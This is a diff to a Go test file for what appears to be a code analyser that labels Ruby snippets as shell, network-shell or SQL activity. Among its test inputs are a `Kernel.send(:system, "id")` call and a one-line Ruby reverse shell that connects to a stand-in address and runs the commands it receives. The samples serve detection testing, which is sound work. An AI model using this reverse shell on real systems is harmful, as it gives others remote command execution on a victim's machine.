@@ -108,7 +108,8 @@ func TestRuby(t *testing.T) {
 		langtest.Of("send", `Kernel.send(:system, "id")`, "shell| id"),
 		langtest.Of("reverse shell", `s = TCPSocket.new("192.0.2.1", 99); while c = s.gets; IO.popen(c, "r") { |io| s.print io.read }; end`, "run: shell <net>"),
 		langtest.Of("data", "puts 'system(\"x\")' # system('y')\nx = <<~EOS\n  system(\"no\")\nEOS\ny = /`ls`/"),
-		langtest.Of("definitions and methods of others", "def system(x)\nend\ndb.exec('SELECT 1'); config.inspect; p x"),
+		langtest.Of("definitions and methods of others", "def system(x)\nend\ndb.exec('ls'); config.inspect; p x"),
+		langtest.Of("a query", "db.exec('SELECT 1')", "sql| SELECT 1"),
 	)
 }
 
